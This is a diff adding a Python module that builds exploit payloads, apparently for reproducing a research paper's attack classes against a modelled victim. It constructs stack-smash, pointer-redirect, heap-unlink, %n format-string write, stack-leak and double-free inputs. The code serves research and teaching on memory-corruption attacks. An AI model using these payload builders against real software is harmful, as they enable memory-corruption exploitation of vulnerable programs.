@@ -1,0 +1,96 @@
+"""Attack payload constructors.
+
+Each helper builds the byte string an attacker would deliver (over stdin,
+argv, or a socket) to trigger one of the paper's exploit classes.  Payload
+shapes follow section 3 / Figure 2; offsets are parameterized because they
+depend on the victim's frame or chunk layout.
+"""
+
+from __future__ import annotations
+
+import struct
+
+
+def le32(value: int) -> bytes:
+    """Little-endian 32-bit encoding of an address or word."""
+    return struct.pack("<I", value & 0xFFFFFFFF)
+
+
+def stack_smash_payload(length: int = 24, filler: bytes = b"a") -> bytes:
+    """Classic stack smash: enough filler to roll over saved FP and RA.
+
+    With the default 24 x ``"a"`` (the paper's exp1 input) the tainted
+    return address becomes ``0x61616161``.
+    """
+    return filler * length
+
+
+def stack_pointer_redirect_payload(
+    buffer_length: int, pointer_offset: int, new_pointer: int, tail: bytes
+) -> bytes:
+    """GHTTPD-style attack: overflow up to a pointer variable and replace it.
+
+    ``pointer_offset`` is the distance from the buffer start to the victim
+    pointer; ``tail`` is the data the redirected pointer should point at
+    (the attacker appends it right after the payload, at a predictable
+    address).
+    """
+    if pointer_offset < buffer_length:
+        raise ValueError("pointer lies inside the buffer being filled")
+    return b"A" * pointer_offset + le32(new_pointer) + tail
+
+
+def heap_unlink_payload(
+    user_bytes: int, fd: int = 0x61616161, bk: int = 0x62626262
+) -> bytes:
+    """Heap overflow into the adjacent free chunk's fd/bk links.
+
+    Layout of the victim allocator (see ``repro.libc.malloc_src``): the
+    overflowed chunk's usable area is ``user_bytes``; the next chunk header
+    follows immediately: ``[size][fd][bk]``.  The payload overwrites size
+    with an odd (free-flagged) value and plants attacker fd/bk.
+    """
+    overwritten_size = 0x41414141  # odd -> keeps the "free" bit set
+    return (
+        b"a" * user_bytes
+        + le32(overwritten_size)
+        + le32(fd)
+        + le32(bk)
+    )
+
+
+def format_write_payload(
+    target: int, skid_words: int = 0, gap_words: int = 0
+) -> bytes:
+    """``%n`` format-string write-anything-anywhere payload.
+
+    ``skid_words`` is the number of ``%x`` directives walking the argument
+    pointer ``ap`` forward before ``%n`` executes; ``gap_words`` is how many
+    words *below* the format buffer ``ap`` starts (the victim's frame gap).
+    After the skid, ``ap`` points at buffer offset
+    ``4 * (skid_words - gap_words)`` -- the target address is planted there.
+
+    With ``skid_words == gap_words`` (the WU-FTPD case) this produces the
+    paper's exact Table 2 shape: ``<addr>%x%x%x%x%x%x%n``.  Directive bytes
+    placed after the planted address still execute before ``%n`` -- the
+    engine processes the format string left to right.
+    """
+    offset = 4 * (skid_words - gap_words)
+    if offset < 0:
+        raise ValueError("ap would stop before the format buffer begins")
+    before = min(skid_words, offset // 2)
+    prefix = b"%x" * before + b"A" * (offset - 2 * before)
+    if len(prefix) != offset:
+        raise ValueError("cannot align the pointer slot")
+    return prefix + le32(target) + b"%x" * (skid_words - before) + b"%n"
+
+
+def format_leak_payload(words: int) -> bytes:
+    """``%x`` information-leak payload reading ``words`` stack words."""
+    return b"%x." * words
+
+
+def double_free_args(first: str = "123", second: str = "5.6.7.8") -> list:
+    """Traceroute-style argv for the double-free attack:
+    ``traceroute -g 123 -g 5.6.7.8``."""
+    return ["traceroute", "-g", first, "-g", second]
